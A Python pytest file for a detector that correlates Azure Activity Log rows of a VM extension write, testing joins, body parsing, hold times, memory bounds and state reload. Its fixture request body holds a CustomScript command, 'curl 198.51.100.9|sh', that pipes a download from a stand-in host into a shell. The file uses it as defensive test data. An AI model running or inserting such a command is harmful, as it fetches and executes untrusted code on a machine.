"""The correlation on rows as Azure writes them: what each says alone and what they say together."""

from __future__ import annotations

import gc
import tracemalloc
from typing import Any

import orjson
import pytest
from msgspec.structs import fields, replace

from stream_detector.activity.record import ActivityRecord, CorrelatedRecord, Origin, TimeSource
from stream_detector.detect import correlation_state
from stream_detector.detect.correlation import CorrelationOptions, Correlator, operation_digest
from stream_detector.detect.identity import fingerprint
from stream_detector.detect.operation import Facts, bodies, is_final
from stream_detector.ticks import HOUR, MINUTE, SECOND

NOON = 17_756_712_000 * SECOND // 10
BODY = '{"properties":{"type":"CustomScript","settings":{"commandToExecute":"curl 198.51.100.9|sh"}}}'


def row(after: int, status: str, **columns: Any) -> ActivityRecord:
    """A row of an extension write, `after` ticks after noon; without caller, address and Properties."""
    plain = ActivityRecord(
        time=NOON + after,
        operation="MICROSOFT.COMPUTE/VIRTUALMACHINES/EXTENSIONS/WRITE",
        status=status,
        status_detail="",
        caller="",
        caller_ip="",
        subscription_id="s1",
        resource_group="RG-App",
        resource_id="/subscriptions/s1/resourceGroups/RG-App/providers/Microsoft.Compute/virtualMachines/vm1",
        properties="{}",
        correlation_id="0b1f6471-1bf0-4dda-aec3-cb9272f09590",
        level="Information",
        category="Administrative",
        origin=Origin("2", after),
    )
    return replace(plain, **columns)


START = row(
    0,
    "Start",
    caller="ann@contoso.com",
    caller_ip="203.0.113.7",
    properties=orjson.dumps({"requestbody": BODY}).decode(),
)
ACCEPT = row(2 * SECOND, "Accept", caller="ann@contoso.com", caller_ip="203.0.113.7")
SUCCESS = row(90 * MINUTE, "Success", caller="ann@contoso.com", properties='{"responseBody":{"code": "OK"}}')


def facts(record: CorrelatedRecord) -> dict[str, object]:
    """The facts of an enriched row."""
    return {
        name.removeprefix("operation_"): getattr(record, name)
        for name in CorrelatedRecord.__struct_fields__
        if name.startswith("operation_")
    }


WHOLE = {
    "caller": "ann@contoso.com",
    "caller_ip": "203.0.113.7",
    "request_body": BODY,
    "response_body": '{"code":"OK"}',
    "outcome": "Success",
    "started": NOON,
    "duration": 90 * MINUTE,
    "rows": 3,
}


@pytest.mark.parametrize(
    "arrivals",
    [(START, ACCEPT, SUCCESS), (SUCCESS, ACCEPT, START), (ACCEPT, SUCCESS, START)],
    ids=["in order", "backwards", "mixed"],
)
def test_the_last_arrival_brings_all_rows_with_all_facts(arrivals: tuple[ActivityRecord, ...]) -> None:
    correlator = Correlator()
    for record in arrivals[:-1]:
        correlator.take(record, NOON)
    given = correlator.take(arrivals[-1], NOON)
    assert given[0].origin == arrivals[-1].origin
    others = sorted(arrivals[:-1], key=lambda record: record.time)
    assert [other.origin for other in given[1:]] == [other.origin for other in others]
    assert [facts(record) for record in given] == [WHOLE] * 3


def test_a_row_goes_out_at_once_with_what_is_known() -> None:
    correlator = Correlator()
    (alone,) = correlator.take(SUCCESS, NOON)
    assert facts(alone) == WHOLE | {
        "caller_ip": "",
        "request_body": "",
        "started": SUCCESS.time,
        "duration": 0,
        "rows": 1,
    }
    assert alone.properties == SUCCESS.properties


def test_a_copy_brings_itself_alone_but_with_the_facts() -> None:
    correlator = Correlator()
    for record in (START, ACCEPT, SUCCESS):
        correlator.take(record, NOON)
    copy = replace(SUCCESS, origin=Origin("0", 77))
    (given,) = correlator.take(copy, NOON)
    assert given.origin == copy.origin
    assert facts(given) == WHOLE


def test_an_exported_copy_that_lacks_the_address_is_no_further_row() -> None:
    correlator = Correlator()
    correlator.take(replace(START, caller_ip=""), NOON)
    given = correlator.take(START, NOON)
    assert fingerprint(given[0]) == fingerprint(given[1])
    assert [facts(record)["rows"] for record in given] == [1, 1]
    assert [facts(record)["caller_ip"] for record in given] == ["203.0.113.7"] * 2


def test_rows_are_joined_whatever_the_casing_of_names() -> None:
    correlator = Correlator()
    correlator.take(START, NOON)
    shouted = replace(
        SUCCESS,
        correlation_id=SUCCESS.correlation_id.upper(),
        operation="Microsoft.Compute/virtualMachines/extensions/write",
        resource_id=SUCCESS.resource_id.upper(),
    )
    assert len(correlator.take(shouted, NOON)) == 2


@pytest.mark.parametrize("name", ["correlation_id", "operation", "resource_id"])
def test_rows_of_another_name_are_not_joined(name: str) -> None:
    correlator = Correlator()
    correlator.take(START, NOON)
    (given,) = correlator.take(replace(SUCCESS, **{name: "other"}), NOON)
    assert given.operation_request_body == ""


def test_texts_cannot_run_together_into_another_operation() -> None:
    names = [("c", "op", "/r"), ("co", "p", "/r"), ("c", "op/", "r"), ("", "cop", "/r"), ("c", "", "op/r")]
    digests = {
        operation_digest(replace(START, correlation_id=c, operation=o, resource_id=r)) for c, o, r in names
    }
    assert len(digests) == len(names)
    assert None in digests


@pytest.mark.parametrize("nothing", ["", "00000000-0000-0000-0000-000000000000"])
def test_a_row_without_a_correlation_id_stands_alone_and_is_not_held(nothing: str) -> None:
    correlator = Correlator()
    for record in (START, SUCCESS):
        (given,) = correlator.take(replace(record, correlation_id=nothing), NOON)
        assert given.operation_rows == 1
    assert operation_digest(replace(START, correlation_id=nothing)) is None
    assert correlator.operations_held == correlator.bytes_held == 0


def test_half_a_surrogate_pair_in_a_name_is_a_name() -> None:
    assert operation_digest(replace(START, resource_id="/\ud800")) is not None


def test_of_two_final_rows_the_latest_is_the_outcome_as_spelled() -> None:
    correlator = Correlator()
    for record in (row(9, "FAILURE"), row(5, "Success"), row(30, "Accepted")):
        given = correlator.take(record, NOON)
    assert given[0].operation_outcome == "FAILURE"
    assert given[0].operation_duration == 25


def test_a_row_without_a_readable_time_is_joined_by_its_time_of_arrival() -> None:
    correlator = Correlator()
    timeless = replace(START, time=NOON + 99 * MINUTE, time_source=TimeSource.ENQUEUED)
    correlator.take(timeless, NOON)
    correlator.take(replace(timeless, origin=Origin("2", 4)), NOON)
    given = correlator.take(SUCCESS, NOON)
    assert given[0].operation_request_body == BODY
    assert given[0].operation_rows == 3, "each is told by where it was received"


@pytest.mark.parametrize(
    "status",
    ["", " ", "Start", "STARTED", "Accept", "Accepted", "Active", "Running", "Updated", "In Progress"],
)
def test_a_status_of_an_operation_that_goes_on_is_not_final(status: str) -> None:
    assert not is_final(status)


@pytest.mark.parametrize(
    "status", ["Success", "Succeeded", "failure", "Failed", "Canceled", "0", "Resolved", "\u017ftart"]
)
def test_every_other_status_is_final(status: str) -> None:
    assert is_final(status)


@pytest.mark.parametrize(
    ("properties", "request_body", "response_body"),
    [
        ("", "", ""),
        ("{}", "", ""),
        ('{"requestbody":"a","responseBody":"b"}', "a", "b"),
        ('{"requestBody":{"a": [1, "é/"], "b": null}}', '{"a":[1,"é/"],"b":null}', ""),
        ('{"REQUESTBODY":[]}', "[]", ""),
        ('{"requestbody":0,"responsebody":false}', "0", "false"),
        ('{"requestbody":null,"requestBody":"","RequestBody":"c"}', "c", ""),
        ('{"requestBody":"first","requestbody":"second"}', "first", ""),
        ('{"requestbody":"first","requestbody":"second"}', "second", ""),
        ('{"request\\u0062ody":"hidden"}', "hidden", ""),
        ('{"request\\u0042ody":"hidden"}', "hidden", ""),
        ('{"requestbody":"half \\ud800"}', "half \ufffd", ""),
        ('{"requestbody":{"n":1e999}}', '{"n":"1e999"}', ""),
        ('{"properties":{"requestbody":"deep"}}', "", ""),
        ('{"message":"\\"requestbody\\":\\"said\\""}', "", ""),
        ('[{"requestbody":"in an array"}]', "", ""),
        ('"requestbody"', "", ""),
        ("{'requestbody':'no JSON'}", "", ""),
        ('{"re\u017fponsebody":"long s"}', "", ""),
        ('{"requestbody":' + "[" * 400 + "]" * 400 + "}", "[" * 400 + "]" * 400, ""),
        ('{"requestbody":' + "[" * 5000, "", ""),
    ],
)
def test_bodies_are_read_from_the_top_level_of_properties(
    properties: str, request_body: str, response_body: str
) -> None:
    assert bodies(properties) == (request_body, response_body)


def test_an_operation_is_held_for_four_hours_after_its_last_arrival() -> None:
    correlator = Correlator()
    correlator.take(START, NOON)
    assert correlator.next_due() == NOON + 4 * HOUR
    correlator.take(ACCEPT, NOON + 3 * HOUR)
    assert len(correlator.take(SUCCESS, NOON + 7 * HOUR - 1)) == 3
    (late,) = correlator.take(row(5, "Failure"), NOON + 11 * HOUR - 1)
    assert late.operation_rows == 1
    assert correlator.dropped_operations == 0, "what is over is not dropped"


def test_a_backlog_is_joined_however_old_its_rows_are() -> None:
    correlator = Correlator()
    correlator.take(START, NOON + 200 * HOUR)
    assert len(correlator.take(SUCCESS, NOON + 200 * HOUR + SECOND)) == 2


def test_rows_ahead_of_the_clock_are_held_no_longer_than_others() -> None:
    correlator = Correlator()
    correlator.take(row(10_000 * HOUR, "Start"), NOON)
    correlator.forget(NOON + 4 * HOUR)
    assert correlator.operations_held == 0


def test_a_clock_that_goes_back_neither_shortens_a_hold_nor_lengthens_it() -> None:
    correlator = Correlator()
    correlator.take(START, NOON)
    correlator.take(ACCEPT, NOON - HOUR)
    other = [replace(record, correlation_id="other") for record in (START, SUCCESS)]
    correlator.take(other[0], NOON - HOUR)
    assert len(correlator.take(other[1], NOON + 3 * HOUR)) == 1, "over, though the one before it is not"
    assert len(correlator.take(SUCCESS, NOON + 4 * HOUR - 1)) == 3


def test_a_flood_of_operations_costs_what_the_bounds_say() -> None:
    correlator = Correlator(CorrelationOptions(max_operations=50))
    for number in range(1_000):
        correlator.take(row(number, "Start", correlation_id=f"c{number}"), NOON)
    assert correlator.operations_held == 50
    assert correlator.dropped_operations == 950
    assert len(correlator.take(row(2_000, "Success", correlation_id="c999"), NOON)) == 2
    assert len(correlator.take(row(2_000, "Success", correlation_id="c949"), NOON)) == 1


def test_a_flood_of_rows_of_one_operation_is_handed_out_within_the_bound() -> None:
    correlator = Correlator()
    for number in range(200):
        given = correlator.take(row(number, "Accept", properties="x" * 100_000), NOON)
        assert len(given) <= 16
    assert given[0].operation_duration == 199
    assert [record.time - NOON for record in given] == [199, *range(8), *range(192, 199)]
    assert correlator.dropped_rows == 184
    assert correlator.bytes_held < 17 * 100_000


def test_an_operation_larger_than_the_bound_is_handed_out_and_not_held() -> None:
    correlator = Correlator(CorrelationOptions(max_bytes=50_000))
    correlator.take(row(0, "Start", correlation_id="other"), NOON)
    (given,) = correlator.take(row(0, "Start", properties="é€" * 20_000), NOON)
    assert given.operation_started == NOON
    assert correlator.operations_held == correlator.bytes_held == 0
    assert correlator.dropped_operations == 2


@pytest.mark.parametrize("rows", [1, 3])
def test_the_bytes_counted_are_not_fewer_than_those_used(rows: int) -> None:
    correlator = Correlator()

    def take(number: int) -> None:
        for position in range(rows):
            record = row(
                number * 1000 + position,
                f"Success{number}",
                caller=f"user-{number}",
                caller_ip=f"10.{number}",
                properties=orjson.dumps({"requestbody": f"é-{number}" * 50, "n": number}).decode(),
                correlation_id=f"c-{number}",
                origin=Origin(f"p{number}", 10**12 + number, 1000 + number),
            )
            unshared = {name: getattr(record, name) + " " for name in ("operation", "resource_id", "level")}
            correlator.take(replace(record, **unshared), NOON + number * 10**6)

    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        for number in range(2_000):
            take(number)
        gc.collect()
        used = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert correlator.operations_held == 2_000
    assert used <= correlator.bytes_held <= 2 * used


@pytest.mark.parametrize(
    "wrong",
    [
        {"hold": -1},
        {"max_bytes": -1},
        {"max_operations": 0},
        {"max_rows_per_operation": 0},
    ],
)
def test_limits_that_make_no_sense_are_refused(wrong: dict[str, int]) -> None:
    with pytest.raises(ValueError, match=r"negative|at least 1"):
        CorrelationOptions(**wrong)


def test_a_downtime_longer_than_the_hold_does_not_cost_the_join() -> None:
    before, after = Correlator(), Correlator()
    before.take(START, NOON)
    after.load(before.export(), NOON + 6 * HOUR)
    given = after.take(SUCCESS, NOON + 6 * HOUR)
    assert [record.operation_request_body for record in given] == [BODY, BODY]
    assert given[1].origin == START.origin


def test_loading_keeps_to_smaller_bounds() -> None:
    before, after = Correlator(), Correlator(CorrelationOptions(max_operations=1, max_rows_per_operation=2))
    for record in (replace(START, correlation_id="other"), START, ACCEPT, SUCCESS):
        before.take(record, NOON)
    after.load(before.export(), NOON)
    assert after.operations_held == 1
    (given,) = after.take(SUCCESS, NOON)
    assert facts(given) == WHOLE | {"rows": 2}


@pytest.mark.parametrize(
    "wrong",
    [
        (),
        (2, ()),
        ("1", ()),
        (1, None),
        (1, ((b"digest",),)),
        (1, ((b"digest", "noon", (None,) * 5 + (0, 0), ()),)),
        (1, ((b"digest", 0, (None,) * 5 + (0, 0), (("a row that is too short",),)),)),
    ],
)
def test_a_state_of_another_form_is_refused_and_what_was_held_stays(wrong: tuple[object, ...]) -> None:
    correlator = Correlator()
    correlator.take(START, NOON)
    with pytest.raises(ValueError, match=r"version|[Ee]xpected"):
        correlator.load(wrong, NOON)
    assert len(correlator.take(SUCCESS, NOON)) == 2


def test_the_stored_forms_have_the_fields_of_what_they_store() -> None:
    stored = [field.name for field in fields(correlation_state._Row)]
    assert stored == [field.name for field in fields(ActivityRecord)]
    known = [field.name for field in fields(correlation_state._Facts)]
    assert known == [field.name for field in fields(Facts)]


def test_an_enriched_record_shows_no_person_in_a_log() -> None:
    (given,) = Correlator().take(START, NOON)
    assert "ann" not in repr(given)
    assert "curl" not in repr(given)
